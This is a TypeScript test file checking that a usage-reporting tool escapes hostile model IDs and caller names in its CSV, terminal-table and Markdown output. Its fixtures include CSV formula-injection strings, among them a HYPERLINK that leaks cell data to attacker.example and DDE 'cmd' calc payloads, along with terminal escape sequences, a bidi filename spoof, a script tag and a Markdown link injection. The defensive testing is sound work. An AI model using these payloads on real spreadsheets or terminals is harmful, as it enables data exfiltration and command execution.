import { expect } from "chai";
import { buildReport, type GroupBy } from "../../../reporting/src/model/report";
import { renderReport } from "../../../reporting/src/render/formats";
import { renderRows } from "../../../reporting/src/render/rows";
import { markdownText, visibleText } from "../../../reporting/src/render/safe-text";
import type { UsageRow } from "../../../reporting/src/model/usage";
import { sourceResult } from "../../helpers/source-results";

const WINDOW = { start: new Date("2026-11-19T00:00:00Z"), end: new Date("2026-11-20T00:00:00Z") };
const ESC = "\u001b";

/** Model IDs and callers are whatever the caller sent: these try a formula, a terminal escape, HTML and a broken table. */
const HOSTILE = {
  formula: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  plus: "+cmd|'/C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1+1)*cmd|'/C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
  terminal: `${ESC}[31mred${ESC}[0m${ESC}]8;;http://attacker.example${ESC}\\link${ESC}]8;;${ESC}\\`,
  csi8bit: "\u009b31mred",
  bidi: "admin\u202egnp.exe",
  html: "<script>alert(1)</script>",
  table: "a|b\nc",
  link: "[click](http://attacker.example)",
};

function row(modelId: string, caller: string): UsageRow {
  return {
    hourStartMs: WINDOW.start.getTime(),
    modelId,
    caller,
    context: "standard",
    invocations: 1,
    errors: 0,
    inputTokens: 10,
    outputTokens: 5,
    cacheReadInputTokens: 0,
    cacheWriteInputTokens: 0,
  };
}

function hostileReport(groupBy: GroupBy) {
  const rows = Object.values(HOSTILE).map((text) => row(text, text));
  const source = sourceResult(rows, { notes: [`Could not read ${HOSTILE.terminal}.json`] });
  return buildReport(source, { window: WINDOW, groupBy });
}

/** Characters a terminal acts on: C0/C1 controls (newline aside), DEL, bidirectional overrides. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const TERMINAL_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** A minimal RFC 4180 reader: enough to see each cell as a spreadsheet would. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ",") {
      rows[rows.length - 1].push(cell);
      cell = "";
    } else if (character === "\n") {
      rows[rows.length - 1].push(cell);
      rows.push([]);
      cell = "";
    } else cell += character;
  }
  if (cell !== "" || rows[rows.length - 1].length > 0) rows[rows.length - 1].push(cell);
  return rows.filter((cells) => cells.length > 0);
}

describe("output safety with hostile model IDs and callers", () => {
  it("CSV: no cell starts with a formula character or carries a control character; negative numbers stay numbers", () => {
    for (const groupBy of ["model", "caller"] as const) {
      const cells = csvCells(renderReport(hostileReport(groupBy), "csv", false)).flat();
      for (const cell of cells) expect(cell, cell).to.not.match(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
      for (const cell of cells) expect(cell, JSON.stringify(cell)).to.not.match(TERMINAL_CONTROLS);
      expect(cells).to.include(`'${HOSTILE.formula}`).and.include(`'${HOSTILE.minus}`).and.include("\\t=1+1");
      expect(cells).to.include(visibleText(HOSTILE.terminal));
    }
    const query = csvCells(
      renderRows(
        [{ modelId: HOSTILE.at, delta: "-3", change: -0.5, note: "-x", ansi: HOSTILE.csi8bit }],
        "csv",
        false,
        "t",
      ),
    );
    expect(query[1]).to.deep.equal([`'${HOSTILE.at}`, "-3", "-0.5", "'-x", "\\u009b31mred"]);
  });

  it("table: no control character from the data reaches the terminal; it is shown escaped", () => {
    for (const groupBy of ["model", "caller"] as const) {
      const table = renderReport(hostileReport(groupBy), "table", false);
      expect(table).to.not.match(TERMINAL_CONTROLS);
      expect(table).to.include("\\u001b[31mred").and.include("\\u009b31mred").and.include("admin\\u202egnp.exe");
    }
    const rows = renderRows([{ modelId: HOSTILE.terminal, caller: HOSTILE.table }], "table", false, `query ${ESC}[2J`, [
      `footer ${ESC}[2J`,
    ]);
    expect(rows).to.not.match(TERMINAL_CONTROLS);
  });

  it("Markdown: a hostile ID stays one escaped cell: no HTML, no link, no extra column or row", () => {
    const markdown = renderReport(hostileReport("model"), "markdown", false);
    expect(markdown).to.not.match(TERMINAL_CONTROLS);
    expect(markdown).to.not.include("<script>");
    expect(markdown).to.include("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(markdown).to.include("\\[click\\](http://attacker.example)");
    const byModel = markdown.split("## By model")[1].split("\n## ")[0].trim().split("\n");
    expect(byModel).to.have.length(2 + Object.keys(HOSTILE).length);
    // Every row has the header's number of unescaped pipes.
    const pipes = (line: string) => line.replace(/\\\\/g, "").match(/(?<!\\)\|/g)?.length;
    for (const line of byModel) expect(pipes(line), line).to.equal(pipes(byModel[0]));
    expect(markdown).to.include("a\\|b\\\\nc");
  });

  it("escapes text for each medium", () => {
    expect(visibleText(`ok ${ESC}[0m\n\u0000\u202e`)).to.equal("ok \\u001b[0m\\n\\u0000\\u202e");
    expect(markdownText("a|b_c*d`e\\f<g>&")).to.equal("a\\|b\\_c\\*d\\`e\\\\f&lt;g&gt;&amp;");
  });
});
